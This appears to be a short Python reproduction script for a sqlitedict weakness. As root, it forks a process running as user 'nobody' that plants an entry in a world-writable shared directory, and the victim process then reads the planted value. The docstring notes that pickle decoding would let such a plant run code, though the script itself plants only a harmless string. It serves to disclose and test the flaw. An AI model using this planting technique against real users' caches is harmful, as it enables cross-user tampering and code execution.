"""sqlitedict opens a database file in a directory that another user owns and everyone can
write, and returns what it finds there as genuine. Here the directory belongs to uid 65534
(nobody) with mode 0o777, a process running as that user stores an entry (the file is then
that user's), and the victim's SqliteDict on the same path reads the planted value. Values are
pickles (sqlitedict's default decode is pickle.loads), so whoever can write the file can also
make the victim's read run code. sqlitedict leaves the choice of path to the caller and checks
neither owner nor mode. Needs root (to chown).
"""
import os
import tempfile
from pathlib import Path

from sqlitedict import SqliteDict

NOBODY = 65534
if os.geteuid() != 0:
    raise SystemExit("run as root: building another user's directory needs chown")
with tempfile.TemporaryDirectory() as tmp:
    os.chmod(tmp, 0o755)
    shared = Path(tmp, "cache")
    shared.mkdir()
    os.chown(shared, NOBODY, NOBODY)
    os.chmod(shared, 0o777)
    path = str(shared / "cache.sqlite")
    pid = os.fork()
    if pid == 0:  # the other user plants an entry (no SqliteDict exists before the fork)
        os.setgid(NOBODY)
        os.setuid(NOBODY)
        attacker = SqliteDict(path, autocommit=True)
        attacker["key"] = "planted by uid 65534"
        attacker.close()
        os._exit(0)
    assert os.waitpid(pid, 0)[1] == 0, "the other user could not plant the entry"
    victim = SqliteDict(path, autocommit=True)
    got = victim.get("key")
    print(f"owner uid {shared.stat().st_uid}, mode {oct(shared.stat().st_mode & 0o777)}")
    print("victim get('key') ->", repr(got))
    victim.close()
    if got == "planted by uid 65534":
        print("DEVIATION REPRODUCED")
        raise SystemExit(0)
raise SystemExit(1)
